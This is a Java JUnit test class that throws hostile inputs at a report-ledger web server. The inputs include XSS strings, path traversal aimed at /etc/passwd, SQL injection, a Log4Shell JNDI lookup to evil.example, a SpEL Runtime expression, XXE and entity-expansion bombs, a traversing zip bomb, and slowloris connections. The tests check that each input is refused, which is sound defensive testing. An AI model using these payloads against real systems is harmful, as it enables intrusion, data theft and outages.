package org.chancery.server;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.Socket;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What is sent to do harm. None of it crosses a line, hangs the server or makes it tell its inside.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
final class HostileTest {
    private static final String SCRIPT = "<script>alert(1)</script>";
    private static final Pattern INSIDE =
            Pattern.compile("(?m)Exception|^\\s+at [a-z]+\\.|\\.java:\\d");

    private Served served;

    @BeforeAll
    void start(@TempDir Path folder) {
        served = Served.in(folder.resolve("ledger"));
        String hit = "\"><img src=x onerror=alert(1)>" + SCRIPT;
        String report =
                "{\"id\":\"%1$s\",\"title\":\"%1$s\",\"outlet\":\"%1$s\",\"byline\":\"%1$s\",\"url\":\"javascript:alert(1)\",\"text\":\"LISBON, March 2, 2011 -- %1$s Portugal and Spain signed an accord on railways in Lisbon on Wednesday. %1$s said Spanish Foreign Minister Juan Perez on Wednesday.\"}\n"
                        .formatted(hit.replace("\"", "\\\""));
        HttpResponse<String> sent =
                served.post("/api/v1/reports?name=evil.jsonl", "application/x-ndjson", report);
        served.get(sent.headers().firstValue("Location").orElseThrow() + "/events");
    }

    @AfterAll
    void stop() {
        served.close();
    }

    private void alive() {
        assertThat(served.get("/").statusCode()).isEqualTo(200);
    }

    private void tellsNothing(HttpResponse<String> answer) {
        assertThat(INSIDE.matcher(answer.body()).find()).as(answer.body()).isFalse();
        assertThat(answer.statusCode()).isLessThan(500);
    }

    @Test
    void noPageRunsWhatAReportBrought() {
        List<String> pages =
                new ArrayList<>(
                        List.of(
                                "/",
                                "/agreements",
                                "/claims",
                                "/actors",
                                "/reports",
                                "/runs",
                                "/export",
                                "/review",
                                "/disputes",
                                "/search?q=accord",
                                "/search?q=" + Served.encoded(SCRIPT),
                                "/events?actor=" + Served.encoded("\"" + SCRIPT)));
        Matcher links =
                Pattern.compile("href=\"(/(?:reports|entries|review|actors)/[^\"#?]+)")
                        .matcher(
                                String.join(
                                        "",
                                        pages.stream()
                                                .map(page -> served.get(page).body())
                                                .toList()));
        links.results().map(found -> found.group(1)).distinct().forEach(pages::add);
        assertThat(pages).hasSizeGreaterThan(20);
        for (String page : pages) {
            String body = served.get(page).body();
            assertThat(
                            body.contains(SCRIPT)
                                    || body.contains("<img")
                                    || body.contains("href=\"javascript:"))
                    .as(page)
                    .isFalse();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/export/..%2f..%2f..%2fetc%2fpasswd",
                "/export/%2e%2e/%2e%2e/etc/passwd",
                "/export/..;/..;/etc/passwd",
                "/export/....//etc/passwd",
                "/export/accounts.json",
                "/assets/..%5c..%5caccounts.json",
                "/reports/%00",
                "/reports/..%2faccounts",
                "/api/v1/reports/..%2f..%2f/text",
                "/actuator/env",
                "/error",
                "/WEB-INF/web.xml"
            })
    void noPathLeadsOut(String path) {
        HttpResponse<String> answer = served.get(path);
        assertThat(answer.statusCode()).isBetween(400, 499);
        assertThat(answer.body()).doesNotContain("root:");
        tellsNothing(answer);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "' OR 1=1 --",
                "\"; DROP TABLE finding; --",
                "%' UNION SELECT name, sql FROM sqlite_master --",
                "*:* OR a* AND NOT b~2^9",
                "((((((((((",
                "[a TO z} {1 TO *",
                "\\",
                "actor:\"",
                "\"unclosed",
                "a\u0000b",
                "\uD83D\uDD4A\u202E\u0301",
                "${jndi:ldap://evil.example/a}",
                "#{T(java.lang.Runtime).getRuntime()}"
            })
    void noSyntaxMeansAnything(String words) {
        String before = served.get("/api/v1/findings?limit=1000").body();
        String value = Served.encoded(words);
        for (String field :
                List.of(
                        "actor", "type", "status", "saying", "report", "during", "kind", "as-of",
                        "cursor", "limit", "page", "table")) {
            tellsNothing(served.get("/events?" + field + "=" + value));
            tellsNothing(served.get("/api/v1/findings?" + field + "=" + value));
        }
        for (String path :
                List.of(
                        "/search?q=",
                        "/api/v1/ask?q=",
                        "/api/v1/search?q=",
                        "/review?kind=",
                        "/reports?saying=",
                        "/login?failed=")) {
            tellsNothing(served.get(path + value));
        }
        for (String path :
                List.of("/entries/", "/actors/", "/review/", "/api/v1/actors/", "/runs/")) {
            tellsNothing(served.get(path + value.replace("+", "%20")));
        }
        assertThat(served.get("/api/v1/findings?limit=1000").body()).isEqualTo(before);
    }

    @Test
    void tenThousandWordsAreTooMany() {
        String words = "treaty+".repeat(10_000);
        for (String path :
                List.of(
                        "/search?q=",
                        "/api/v1/ask?q=",
                        "/events?saying=",
                        "/api/v1/findings?actor=")) {
            HttpResponse<String> long0 = served.get(path + words);
            assertThat(long0.statusCode()).isBetween(400, 499);
            HttpResponse<String> shorter = served.get(path + words.substring(0, 4200));
            assertThat(shorter.body()).contains("too long");
            tellsNothing(shorter);
        }
    }

    @Test
    void twoHundredMegabytesAreTurnedAway() {
        HttpRequest.Builder declared =
                HttpRequest.newBuilder(served.at("/api/v1/reports"))
                        .header("Content-Type", "text/plain")
                        .POST(
                                BodyPublishers.fromPublisher(
                                        BodyPublishers.ofInputStream(
                                                () -> new Letters(200_000_000)),
                                        200_000_000));
        HttpRequest.Builder chunked =
                HttpRequest.newBuilder(served.at("/api/v1/reports"))
                        .header("Content-Type", "text/plain")
                        .POST(BodyPublishers.ofInputStream(() -> new Letters(200_000_000)));
        for (HttpRequest.Builder request : List.of(declared, chunked)) {
            try {
                assertThat(served.send(request).statusCode()).isEqualTo(413);
            } catch (UncheckedIOException hungUp) {
                assertThat(hungUp.getCause())
                        .as("the server hung up")
                        .isInstanceOf(IOException.class);
            }
            alive();
        }
    }

    /** So many letters. */
    private static final class Letters extends InputStream {
        private long left;

        Letters(long left) {
            this.left = left;
        }

        @Override
        public int read() {
            return left-- > 0 ? 'a' : -1;
        }

        @Override
        public int read(byte[] target, int from, int length) {
            int given = (int) Math.min(length, left);
            left -= given;
            java.util.Arrays.fill(target, from, from + given, (byte) 'a');
            return given == 0 ? -1 : given;
        }
    }

    @Test
    void bombsAreSetAside() throws IOException {
        String bomb =
                "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e SYSTEM \"file:///etc/passwd\">]><rss version=\"2.0\"><channel><title>&d;</title><item><title>&e;</title><description>&d;</description></item></channel></rss>";
        for (String name : List.of("bomb.xml", "bomb.rss", "bomb.html", "bomb.txt")) {
            String done = read(name, bomb.getBytes(StandardCharsets.UTF_8));
            assertThat(done).contains("\"done\":true").doesNotContain("Reading failed");
        }
        assertThat(served.get("/api/v1/reports").body()).doesNotContain("root:");
        for (String name : List.of("bomb.zip", "bomb.docx", "bomb.txt", "picture.html")) {
            String done = read(name, zipBomb());
            assertThat(done).contains("\"accepted\":0").doesNotContain("Reading failed");
        }
        alive();
    }

    private static byte[] zipBomb() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("../../../word/document.xml"));
            byte[] zeros = new byte[1_000_000];
            for (int i = 0; i < 500; i++) {
                zip.write(zeros);
            }
            zip.closeEntry();
        }
        return bytes.toByteArray();
    }

    private String read(String name, byte[] bytes) {
        String line = "----chancery";
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        body.writeBytes(
                ("--"
                                + line
                                + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../"
                                + name
                                + "\"\r\n\r\n")
                        .getBytes(StandardCharsets.UTF_8));
        body.writeBytes(bytes);
        body.writeBytes(("\r\n--" + line + "--\r\n").getBytes(StandardCharsets.UTF_8));
        HttpResponse<String> sent =
                served.send(
                        HttpRequest.newBuilder(served.at("/api/v1/reports"))
                                .header("Content-Type", "multipart/form-data; boundary=" + line)
                                .POST(BodyPublishers.ofByteArray(body.toByteArray())));
        assertThat(sent.statusCode()).as(sent.body()).isEqualTo(202);
        String run = sent.headers().firstValue("Location").orElseThrow();
        served.get(run + "/events");
        return served.get(run).body();
    }

    @Test
    void slowClientsHinderNobody() throws IOException {
        List<Socket> slow = new ArrayList<>();
        try {
            for (int i = 0; i < 200; i++) {
                Socket socket =
                        new Socket(InetAddress.getLoopbackAddress(), served.at("/").getPort());
                socket.getOutputStream()
                        .write("GET / HTTP/1.1\r\nHost: 127".getBytes(StandardCharsets.US_ASCII));
                socket.getOutputStream().flush();
                slow.add(socket);
            }
            alive();
        } finally {
            for (Socket socket : slow) {
                socket.close();
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n",
                "GET / HTTP/1.1\r\nHost: 127.0.0.1.evil.example\r\n\r\n",
                "GET / HTTP/1.0\r\n\r\n",
                "TRACE / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
                "PUT /events HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 0\r\n\r\n",
                "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: y\r\n z\r\nContent-Length: -1\r\n\r\n",
                "NONSENSE\r\n\r\n"
            })
    void oddRequestsAreRefused(String request) throws IOException {
        try (Socket socket =
                new Socket(InetAddress.getLoopbackAddress(), served.at("/").getPort())) {
            socket.setSoTimeout(30_000);
            socket.getOutputStream().write(request.getBytes(StandardCharsets.US_ASCII));
            socket.getOutputStream().flush();
            byte[] head = socket.getInputStream().readNBytes(12);
            assertThat(new String(head, StandardCharsets.US_ASCII)).startsWith("HTTP/1.1 4");
        }
        alive();
    }
}
